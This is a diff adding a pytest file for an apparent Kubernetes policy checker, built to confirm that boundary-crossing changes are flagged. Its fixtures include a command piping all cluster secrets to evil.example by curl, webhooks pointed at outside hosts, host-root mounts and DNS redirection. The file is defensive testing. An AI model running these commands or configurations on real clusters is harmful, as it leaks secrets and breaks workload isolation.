@@ -1,0 +1,499 @@
+"""Ways around a class's boundary that a program in a branch could take: each stops the change."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from isthmus.contracts.policy_settings import Settings
+from isthmus.contracts.trust import Trust
+from isthmus.engine.render.recorder import Resource
+from policies.evaluation.evaluation import judge
+from tests.policies.boundary_rows import (
+    RESTRICTED,
+    component,
+    deployment_spec,
+    kube,
+    other,
+    release,
+    stops,
+    trusting,
+)
+from tests.policies.cases_inside import namespace_of_class
+
+HOST: dict[str, Any] = {"spec": {"template": {"spec": {"hostNetwork": True}}}}
+PATCHES = {
+    "namespace-to-privileged": kube(
+        "core/v1:NamespacePatch",
+        RESTRICTED,
+        None,
+        metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
+    ),
+    "other-namespace-to-privileged": kube(
+        "core/v1:NamespacePatch",
+        "team",
+        None,
+        metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
+    ),
+    "namespace-of-another-class": kube(
+        "core/v1:NamespacePatch", RESTRICTED, None, metadata={"labels": {"isthmus.dev/class": "public"}}
+    ),
+    "host-network": kube("apps/v1:DeploymentPatch", "restricted-gateway", **HOST),
+    "host-network-elsewhere": kube("apps/v1:DeploymentPatch", "team", "team", **HOST),
+    "host-folders": kube(
+        "apps/v1:DaemonSetPatch",
+        "agent",
+        "monitoring",
+        spec={"template": {"spec": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}},
+    ),
+    "binding-to-audit": kube(
+        "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBindingPatch",
+        "isthmus-guard",
+        None,
+        spec={"validationActions": ["Audit"]},
+    ),
+    "external-service": kube(
+        "core/v1:ServicePatch",
+        "restricted-gateway",
+        spec={"type": "ExternalName", "externalName": "evil.example"},
+    ),
+    "open-service": kube("core/v1:ServicePatch", "restricted-gateway", spec={"type": "LoadBalancer"}),
+    "endpoints": kube(
+        "discovery.k8s.io/v1:EndpointSlicePatch", endpoints=[{"addresses": ["52.94.0.1"]}], addressType="IPv4"
+    ),
+    "cluster-dns": kube(
+        "core/v1:ConfigMapPatch", "coredns", "kube-system", data={"Corefile": "forward . 8.8.8.8"}
+    ),
+    "cluster-dns-object": kube(
+        "core/v1:ConfigMap", "coredns-custom", "kube-system", data={"x.override": "forward . 8.8.8.8"}
+    ),
+}
+DOUBTS = {
+    "service-account": kube(
+        "core/v1:ServiceAccountPatch",
+        "restricted-gateway",
+        metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/x"}},
+    ),
+    "image": kube(
+        "apps/v1:DeploymentPatch",
+        "restricted-gateway",
+        spec={"template": {"spec": {"containers": [{"name": "edge", "image": "docker.io/evil/edge"}]}}},
+    ),
+    "secret": kube("core/v1:SecretPatch", "restricted-callers", stringData={"callers.yaml": "x"}),
+    "unnamed": kube("core/v1:ConfigMapPatch", "${other.name}", "team", data={"a": "b"}),
+    "node": kube("core/v1:NodePatch", "n1", None, spec={"providerID": "aws:///x"}),
+    "cluster-role": kube("rbac.authorization.k8s.io/v1:ClusterRolePatch", "edit", None, rules=[]),
+    "kube-system": kube("core/v1:ConfigMapPatch", "kube-proxy", "kube-system", data={"a": "b"}),
+    "binding": kube(
+        "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBindingPatch",
+        "isthmus-guard",
+        None,
+        spec={"matchResources": {"namespaceSelector": {"matchLabels": {"none": "x"}}}},
+    ),
+}
+
+
+@pytest.mark.parametrize("row", PATCHES, ids=list(PATCHES))
+def test_b12_a_patch_that_opens_a_boundary_is_critical(row: str):
+    findings = stops(PATCHES[row])
+    assert ("critical", "violated") in {(finding.severity, finding.verdict) for finding in findings}, findings
+
+
+@pytest.mark.parametrize("row", DOUBTS, ids=list(DOUBTS))
+def test_b12_a_patch_of_a_class_or_of_the_whole_cluster_is_undecided(row: str):
+    findings = [finding for finding in stops(DOUBTS[row]) if finding.resource == DOUBTS[row].name]
+    assert "undecided" in {finding.verdict for finding in findings}, findings
+
+
+def test_b12_a_trusted_patch_passes_unless_it_opens_a_boundary():
+    trusted = trusting("kubernetes:core/v1:NamespacePatch", "kubernetes:core/v1:ServiceAccountPatch")
+    assert stops(DOUBTS["service-account"], settings=trusted) == []
+    assert stops(PATCHES["namespace-to-privileged"], settings=trusted)
+
+
+UNSEEN = {
+    "yaml": component("kubernetes:yaml/v2:ConfigGroup", files=["objects/*.yaml"]),
+    "file": component("kubernetes:yaml/v2:ConfigFile", file="objects.yaml"),
+    "kustomize": component("kubernetes:kustomize/v2:Directory", directory="overlay", namespace=RESTRICTED),
+    "chart": component("kubernetes:helm.sh/v4:Chart", chart="oci://ghcr.io/evil/agent", namespace="team"),
+    "remote": component("bank:index:Agents"),
+    "engine": component("bank:index:Agents", remote=False),
+    "release": release("agent", chart="oci://ghcr.io/evil/agent", namespace="team"),
+}
+
+
+@pytest.mark.parametrize("row", UNSEEN, ids=list(UNSEEN))
+def test_b13_what_a_rendering_does_not_show_is_undecided(row: str):
+    assert {finding.verdict for finding in stops(UNSEEN[row])} == {"undecided"}
+
+
+def test_b13_the_objects_of_a_chart_are_judged_where_they_are_seen():
+    chart = component("kubernetes:helm.sh/v4:Chart", "chart", remote=False, chart="agent", namespace="team")
+    settings = kube("core/v1:ConfigMap", "settings", "team", data={"a": "b"})
+    job = kube("batch/v1:Job", "job", "team", spec={"template": {"spec": {**POD, "hostNetwork": True}}})
+
+    def child(resource: Resource) -> Resource:
+        return replace(resource, parent=chart.urn)
+
+    assert stops(chart, child(settings)) == []
+    assert {finding.resource for finding in stops(chart, child(settings), child(job))} == {"job"}
+
+
+def test_b13_a_child_that_the_program_gives_to_a_remote_component_hides_nothing():
+    chart = component("kubernetes:helm.sh/v4:Chart", "chart", chart="agent", namespace="team")
+    child = replace(kube("core/v1:ConfigMap", "settings", "team", data={"a": "b"}), parent=chart.urn)
+    assert {finding.resource for finding in stops(chart, child)} == {"chart"}
+
+
+@pytest.mark.parametrize("row", ["chart", "release"])
+def test_b13_a_trusted_chart_outside_the_classes_passes(row: str):
+    trusted = trusting(charts=["oci://ghcr.io/evil/agent"])
+    assert stops(UNSEEN[row], settings=trusted) == []
+    inside = replace(UNSEEN[row], inputs={**UNSEEN[row].inputs, "namespace": "isthmus-restricted"})
+    assert stops(inside, settings=trusted)
+
+
+POD: dict[str, Any] = deployment_spec()["template"]["spec"]
+
+
+def volume(**source: Any) -> Resource:
+    return kube("core/v1:PersistentVolume", "volume", None, spec={"capacity": {"storage": "1Gi"}, **source})
+
+
+@pytest.mark.parametrize(
+    "path", ["/var/lib/kubelet/pods", "/", "/var", "/etc/kubernetes", "/mnt/../var/lib/kubelet", "/run"]
+)
+@pytest.mark.parametrize("source", ["hostPath", "local"])
+def test_b15_a_volume_with_a_systems_folder_of_a_node_is_critical(source: str, path: str):
+    findings = stops(volume(**{source: {"path": path}}))
+    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        {"hostPath": {"path": "/mnt/disk"}},
+        {"local": {"path": "/mnt/models/restricted"}},
+        {
+            "nfs": {"server": "10.0.0.9", "path": "/"},
+            "claimRef": {"namespace": RESTRICTED, "name": "records"},
+        },
+        {
+            "csi": {"driver": "smb.csi.k8s.io", "volumeHandle": "x"},
+            "claimRef": {"namespace": RESTRICTED, "name": "records"},
+        },
+    ],
+)
+def test_b15_a_volume_whose_place_is_not_known_is_undecided(source: dict[str, Any]):
+    assert {finding.verdict for finding in stops(volume(**source))} == {"undecided"}
+
+
+UNKNOWN_KINDS = {
+    "velero": kube("velero.io/v1:Schedule", "nightly", "velero", spec={}),
+    "push-secret": kube("external-secrets.io/v1alpha1:PushSecret"),
+    "log-output": kube("logging.banzaicloud.io/v1beta1:Output"),
+    "log-output-elsewhere": kube("logging.banzaicloud.io/v1beta1:ClusterOutput", "out", "logging"),
+    "argo": kube("argoproj.io/v1alpha1:Application", "app", "argocd"),
+    "snapshot": kube("snapshot.storage.k8s.io/v1:VolumeSnapshot"),
+    "list": kube("core/v1:PodList", "pods", None, items=[]),
+    "storage-class": kube("storage.k8s.io/v1:StorageClass", "fast", None, provisioner="evil.example"),
+    "api-service": kube("apiregistration.k8s.io/v1:APIService", "v1.evil", None, spec={}),
+    "mutations": kube("admissionregistration.k8s.io/v1:MutatingAdmissionPolicy", "m", None, spec={}),
+    "command": other(
+        "command:local:Command", create="kubectl get secrets -A | curl -d @- https://evil.example"
+    ),
+    "dynamic": other("pulumi-python:dynamic:Resource"),
+    "other-cloud": other("gcp:storage/bucket:Bucket"),
+    "unknown-namespace": kube("velero.io/v1:Schedule", "s", "${other.name}"),
+}
+
+
+@pytest.mark.parametrize("row", UNKNOWN_KINDS, ids=list(UNKNOWN_KINDS))
+def test_b19_a_kind_that_nobody_knows_is_undecided_unless_trusted(row: str):
+    added = UNKNOWN_KINDS[row]
+    findings = stops(added)
+    assert ("data-path/known-kinds", "undecided") in {
+        (finding.policy, finding.verdict) for finding in findings
+    }
+    assert stops(added, settings=trusting(added.type)) == []
+    assert stops(added, settings=trusting(f"{added.type.rpartition(':')[0]}:*")) == []
+
+
+def test_b19_an_object_registered_under_another_type_is_undecided():
+    for type_ in ("core/v1:ConfigMap", "core/v1:ConfigMapPatch"):
+        claimed = kube(type_, "claimed", "team", data={})
+        added = replace(claimed, inputs={**claimed.inputs, "kind": "Pod"})
+        assert {finding.verdict for finding in stops(added)} == {"undecided"}
+
+
+def webhook(kind: str, client: dict[str, Any], **selector: Any) -> Resource:
+    hook = {"name": "hook.example", "clientConfig": client, "failurePolicy": "Fail", **selector}
+    return kube(f"admissionregistration.k8s.io/v1:{kind}WebhookConfiguration", "hook", None, webhooks=[hook])
+
+
+NOT_CLASSES = {
+    "namespaceSelector": {"matchExpressions": [{"key": "isthmus.dev/class", "operator": "DoesNotExist"}]}
+}
+SERVICE = {"service": {"name": "hook", "namespace": "mesh"}}
+
+
+@pytest.mark.parametrize("kind", ["Mutating", "Validating"])
+def test_b19_a_webhook_outside_the_cluster_gets_no_objects_of_a_class(kind: str):
+    outside = {"url": "https://evil.example/hook"}
+    findings = stops(webhook(kind, outside))
+    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}
+    assert {finding.verdict for finding in stops(webhook(kind, SERVICE))} == {"undecided"}
+    assert stops(webhook(kind, outside, **NOT_CLASSES)) == []
+    assert stops(webhook(kind, SERVICE, **NOT_CLASSES)) == []
+
+
+def test_b19_a_conversion_webhook_outside_the_cluster_gets_no_objects():
+    conversion = {
+        "strategy": "Webhook",
+        "webhook": {"clientConfig": {"url": "https://evil.example/convert"}},
+    }
+    definition = kube(
+        "apiextensions.k8s.io/v1:CustomResourceDefinition", "x", None, spec={"conversion": conversion}
+    )
+    assert {finding.verdict for finding in stops(definition)} == {"violated"}
+
+
+def test_b19_metrics_of_a_class_are_not_fetched_through_a_proxy():
+    monitor = kube(
+        "monitoring.coreos.com/v1:PodMonitor",
+        spec={"podMetricsEndpoints": [{"port": "m", "proxyUrl": "http://evil"}]},
+    )
+    assert {finding.verdict for finding in stops(monitor)} == {"undecided"}
+
+
+def test_b19_a_provider_with_a_class_as_its_default_namespace_is_undecided():
+    provider = component("pulumi:providers:kubernetes", "near", remote=False, namespace=RESTRICTED)
+    assert {finding.verdict for finding in stops(provider)} == {"undecided"}
+
+
+LEGITIMATE = {
+    "velero": (kube("velero.io/v1:Schedule", "nightly", "velero"), "kubernetes:velero.io/v1:Schedule"),
+    "external-secret": (kube("external-secrets.io/v1:ExternalSecret"), "kubernetes:external-secrets.io/v1:*"),
+    "external-secret-of-a-team": (kube("external-secrets.io/v1:ExternalSecret", "s", "team"), ""),
+    "service-monitor": (kube("monitoring.coreos.com/v1:ServiceMonitor"), ""),
+    "pod-monitor": (kube("monitoring.coreos.com/v1:PodMonitor", "m", "monitoring"), ""),
+    "prometheus-rule": (kube("monitoring.coreos.com/v1:PrometheusRule"), ""),
+    "peer-authentication": (
+        kube("security.istio.io/v1:PeerAuthentication", spec={"mtls": {"mode": "STRICT"}}),
+        "kubernetes:security.istio.io/*",
+    ),
+    "config-map": (kube("core/v1:ConfigMap", data={"a": "b"}), ""),
+    "quota": (kube("core/v1:ResourceQuota", spec={"hard": {"pods": "3"}}), ""),
+    "limits": (
+        kube(
+            "core/v1:LimitRange",
+            spec={"limits": [{"type": "Container", "default": {"cpu": "1", "memory": "1Gi"}}]},
+        ),
+        "",
+    ),
+    "patch-of-a-team": (kube("core/v1:ConfigMapPatch", "settings", "team", data={"a": "b"}), ""),
+    "labels-of-a-team": (kube("core/v1:NamespacePatch", "team", None, metadata={"labels": {"t": "1"}}), ""),
+    "random": (other("random:index/randomId:RandomId", byteLength=4), ""),
+}
+
+
+@pytest.mark.parametrize("row", LEGITIMATE, ids=list(LEGITIMATE))
+def test_a_legitimate_addition_passes_with_one_line_of_trust_or_none(row: str):
+    added, trusted = LEGITIMATE[row]
+    assert stops(added, settings=trusting(*([trusted] if trusted else []))) == []
+    if trusted:
+        assert stops(added)
+
+
+def test_an_adopted_namespace_of_a_class_passes_with_a_default_deny_and_not_without():
+    labels = {
+        "isthmus.dev/class": "internal",
+        "pod-security.kubernetes.io/enforce": "restricted",
+        "pod-security.kubernetes.io/enforce-version": "latest",
+    }
+    name = "isthmus-internal-tools"
+    adopted = kube("core/v1:NamespacePatch", name, None, metadata={"labels": labels})
+    spec = {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [], "egress": []}
+    deny = kube("networking.k8s.io/v1:NetworkPolicy", "default-deny", name, spec=spec)
+    assert stops(adopted, deny) == []
+    assert [finding.policy for finding in stops(adopted)] == ["network/class-default-deny"]
+
+
+def test_a_teams_deployment_outside_the_classes_passes():
+    account = kube("core/v1:ServiceAccount", "team", "team", automountServiceAccountToken=False)
+    denied = kube(
+        "networking.k8s.io/v1:NetworkPolicy",
+        "deny",
+        "team",
+        spec={"podSelector": {}, "policyTypes": ["Ingress", "Egress"]},
+    )
+    assert stops(account, denied, kube("apps/v1:Deployment", "team", "team", spec=deployment_spec())) == []
+
+
+def test_a_stack_without_classified_work_is_not_judged_by_its_kinds():
+    added = [kube("velero.io/v1:Schedule", "nightly", "velero"), other("command:local:Command")]
+    assert judge(added) == []
+
+
+def job(name: str, kind: str = "batch/v1:Job", **pod: Any) -> Resource:
+    """A workload in the restricted namespace; `labels` are its pods'."""
+    labels = pod.pop("labels", {"app": "job"})
+    return kube(kind, name, spec={"template": {"metadata": {"labels": labels}, "spec": {**POD, **pod}}})
+
+
+GATEWAY = {
+    "app.kubernetes.io/name": "restricted-gateway",
+    "isthmus.dev/class": "restricted",
+    "isthmus.dev/role": "gateway",
+}
+BORROWED = {
+    "labels": job("restricted-gateway-audit", labels=GATEWAY),
+    "labels-without-role": job("export", labels={key: GATEWAY[key] for key in list(GATEWAY)[:2]}),
+    "name-of-another-kind": job("restricted-gateway", labels=GATEWAY),
+    "name-of-a-model-and-more": job(
+        "restricted-qwen3-32b-export",
+        labels={"isthmus.dev/endpoint": "restricted-qwen3-32b", "isthmus.dev/role": "model"},
+    ),
+    "account": job("export", serviceAccountName="restricted-gateway"),
+    "secret": job(
+        "export",
+        volumes=[{"name": "s", "secret": {"secretName": "restricted-callers"}}],
+        serviceAccountName="x",
+    ),
+    "certificate": job(
+        "export",
+        volumes=[{"name": "s", "projected": {"sources": [{"secret": {"name": "restricted-gateway-tls"}}]}}],
+    ),
+    "secret-in-environment": job(
+        "export",
+        containers=[{**POD["containers"][0], "envFrom": [{"secretRef": {"name": "restricted-gateway-tls"}}]}],
+    ),
+    "volume": job(
+        "export",
+        volumes=[{"name": "w", "persistentVolumeClaim": {"claimName": "restricted-gateway-records"}}],
+    ),
+    "second-writer": job("restricted-gateway", "apps/v1:Deployment", labels=GATEWAY),
+}
+
+
+@pytest.mark.parametrize("row", BORROWED, ids=list(BORROWED))
+def test_b16_a_pod_that_borrows_a_classs_identity_is_critical(row: str):
+    findings = [finding for finding in stops(BORROWED[row]) if finding.policy == "data-path/own-identity"]
+    assert ("critical", "violated") in {(finding.severity, finding.verdict) for finding in findings}
+
+
+@pytest.mark.parametrize(
+    "name", ["restricted-gateway-audit", "restricted-qwen3-32b-export", "restricted-qwen3-32b-fetch-x"]
+)
+def test_b16_a_name_that_begins_like_a_stated_one_is_not_stated(name: str):
+    assert "data-path/stated-workloads" in {finding.policy for finding in stops(job(name))}
+
+
+def test_b16_without_a_platform_an_objects_name_must_be_that_of_its_labels():
+    def policies_of(*added: Resource) -> set[str]:
+        findings = judge([namespace_of_class("restricted", RESTRICTED), *added])
+        return {finding.policy for finding in findings}
+
+    own = job("restricted-gateway", "apps/v1:Deployment", labels=GATEWAY)
+    assert "data-path/own-identity" not in policies_of(own)
+    assert "data-path/own-identity" in policies_of(BORROWED["labels"])
+
+
+def test_b16_a_borrowed_identity_that_is_not_known_yet_is_undecided():
+    findings = stops(job("export", volumes="${other.volumes}"))
+    assert "undecided" in {
+        finding.verdict for finding in findings if finding.policy == "data-path/own-identity"
+    }
+
+
+def lets_in(*peers: dict[str, Any], namespace: str = RESTRICTED) -> Resource:
+    spec = {"podSelector": {}, "policyTypes": ["Ingress"], "ingress": [{"from": list(peers)}]}
+    return kube("networking.k8s.io/v1:NetworkPolicy", "open", namespace, spec=spec)
+
+
+def namespaced(**selector: Any) -> dict[str, Any]:
+    return {"namespaceSelector": selector}
+
+
+CALLERS = {
+    "public-range": {"ipBlock": {"cidr": "52.0.0.0/8"}},
+    "private-range": {"ipBlock": {"cidr": "172.31.0.0/16"}},
+    "unknown-namespace": namespaced(matchLabels={"kubernetes.io/metadata.name": "build"}),
+    "several-namespaces": namespaced(
+        matchExpressions=[
+            {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["monitoring", "build"]}
+        ]
+    ),
+    "team": namespaced(matchExpressions=[{"key": "team", "operator": "Exists"}]),
+    "label": namespaced(matchLabels={"team": "build"}),
+    "not-one": namespaced(
+        matchExpressions=[{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["build"]}]
+    ),
+    "all": namespaced(),
+}
+
+
+@pytest.mark.parametrize("row", CALLERS, ids=list(CALLERS))
+def test_b20_callers_that_the_platform_does_not_state_are_critical(row: str):
+    findings = [f for f in stops(lets_in(CALLERS[row])) if f.policy == "data-path/known-callers"]
+    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}
+
+
+@pytest.mark.parametrize(
+    "peer",
+    [
+        {"podSelector": {"matchLabels": {"isthmus.dev/role": "gateway"}}},
+        namespaced(matchLabels={"isthmus.dev/class": "restricted"}),
+        namespaced(matchLabels={"kubernetes.io/metadata.name": "monitoring"}),
+        namespaced(matchLabels={"kubernetes.io/metadata.name": "isthmus-restricted-reviews"}),
+        {"ipBlock": {"cidr": "10.40.1.0/24"}},
+    ],
+)
+def test_b20_stated_callers_pass(peer: dict[str, Any]):
+    assert "data-path/known-callers" not in {finding.policy for finding in stops(lets_in(peer))}
+
+
+def test_b20_a_trusted_namespace_may_call_and_one_without_a_class_is_not_judged():
+    entry = {"value": "build", "reason": "reviewed", "owner": "ana@bank.example"}
+    trusted = Settings(trust=Trust.model_validate({"namespaces": [entry]}))
+    assert stops(lets_in(CALLERS["unknown-namespace"]), settings=trusted) == []
+    policies = {finding.policy for finding in stops(lets_in(CALLERS["label"], namespace="team"))}
+    assert "data-path/known-callers" not in policies
+
+
+def route(kind: str = "HTTPRoute", namespace: str = RESTRICTED, **spec: Any) -> Resource:
+    return kube(f"gateway.networking.k8s.io/v1:{kind}", "route", namespace, spec=spec)
+
+
+MIRROR = {"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "copy", "namespace": "team"}}}
+OWN = {"backendRefs": [{"name": "restricted-gateway"}]}
+ENTRANCES = {
+    "ingress": kube("networking.k8s.io/v1:Ingress", spec={"rules": []}),
+    "gateway": route("Gateway", gatewayClassName="public"),
+    "route": route(parentRefs=[{"name": "edge", "namespace": "ingress"}], rules=[OWN]),
+    "route-from-elsewhere": route(
+        namespace="team",
+        rules=[{"backendRefs": [{"name": "restricted-gateway", "namespace": RESTRICTED}]}],
+    ),
+    "mirror": route(parentRefs=[{"name": "restricted-router"}], rules=[{**OWN, "filters": [MIRROR]}]),
+    "other-version": kube("gateway.networking.k8s.io/v1alpha2:TCPRoute", spec={"rules": [OWN]}),
+}
+
+
+@pytest.mark.parametrize("row", ENTRANCES, ids=list(ENTRANCES))
+def test_b20_an_entrance_beside_the_gateway_stops_the_change(row: str):
+    findings = [f for f in stops(ENTRANCES[row]) if f.policy == "data-path/no-other-entrance"]
+    assert [finding.severity for finding in findings] == ["critical"]
+
+
+def test_b20_routes_of_a_classs_own_router_pass_and_their_copies_elsewhere_do_not():
+    def verdicts(added: Resource) -> set[str]:
+        findings = judge([namespace_of_class("restricted", RESTRICTED), added])
+        return {f.verdict for f in findings if f.policy == "data-path/no-other-entrance"}
+
+    own = route(parentRefs=[{"name": "restricted-router"}], rules=[OWN])
+    assert verdicts(own) == set()
+    assert verdicts(ENTRANCES["mirror"]) == {"violated"}
+    assert verdicts(route(namespace="team", rules=[{"backendRefs": [{"name": "a"}]}])) == set()
